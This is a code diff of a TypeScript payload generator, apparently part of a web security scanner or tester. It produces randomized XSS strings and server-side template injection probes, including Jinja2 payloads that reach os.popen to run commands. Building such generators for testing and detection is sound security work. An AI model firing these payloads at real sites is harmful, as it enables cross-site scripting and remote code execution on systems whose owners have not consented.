@@ -45,7 +45,7 @@ export function xssTool(r: Random): Payload {
     `<object data="data:text/html;base64,${Buffer.from(`<script>${js}</script>`).toString('base64')}">`,
     `<d3"<"/onclick="1>[${js}]"<">z`,
     `</title><script>${js}</script>`,
-    `-->\n<script>${js}</script><!--`.replace('\n', ''),
+    `--><script>${js}</script><!--`,
     `<x onpointerenter=${js}>${word(r)}</x>`,
   ]);
   return { text, technique: 'markup as scanners send it' };
@@ -93,7 +93,7 @@ export function templateTool(r: Random): Payload {
     `@(${a}*${b})`,
     `{${a}*${b}}{{${b}*${a}}}`,
     `{{'${r.token(4)}'*${a}}}`,
-    `{%25set x=${a}*${b}%25}{{x}}`.replaceAll('%25', '%'),
+    `{%set x=${a}*${b}%}{{x}}`,
     `\${T(java.lang.Math).abs(-${a}${b})}`,
     `#set($x=${a}*${b})\${x}`,
     `[[\${${a}*${b}}]]`,
@@ -105,7 +105,7 @@ export function templateHand(r: Random): Payload {
   const cmd = r.pick(COMMANDS);
   const [n, w] = [r.int(1, 600), word(r)];
   const text = r.pick([
-    `{{''.__class__.__mro__[1].__subclasses__()[${n}]}}`,
+    `{{''.__class__.__mro__[1].__subclasses__()[${n}].__name__}}${w}`,
     `{{config.items()}}{{${n}}}`,
     `{{request.application.__globals__.__builtins__.__import__('os').popen('${cmd}').read()}}`,
     `{{lipsum.__globals__['os'].popen('${cmd} ${n}').read()}}`,
